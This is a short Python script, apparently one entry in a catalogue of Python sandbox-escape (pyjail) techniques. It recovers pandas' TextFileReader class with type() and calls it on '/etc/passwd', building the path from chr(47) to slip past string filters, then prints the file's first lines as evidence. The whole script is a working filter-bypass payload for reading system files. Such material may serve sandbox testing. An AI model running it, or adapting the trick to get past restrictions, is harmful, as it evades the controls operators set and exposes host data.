# source: pandas 1.5.3 read_csv(iterator=True) returns pandas.io.parsers.readers.TextFileReader (README lists TextFileReader as a path-taking callable); pyjail "type(obj)" class recovery
# family: recovering a file-opening class from an instance with type() and calling it with a run-time path
# goal: read /etc/passwd
import json
import pandas as pd

pd.DataFrame({"a": [1]}).to_csv("sx346.csv", index=False)
r = pd.read_csv("sx346.csv", iterator=True)
R = type(r)
P = chr(47) + "etc" + chr(47) + "passwd"
r2 = R(P, sep="\t", header=None)
print(json.dumps({"evidence": r2.read()[0].tolist()[:3]}))
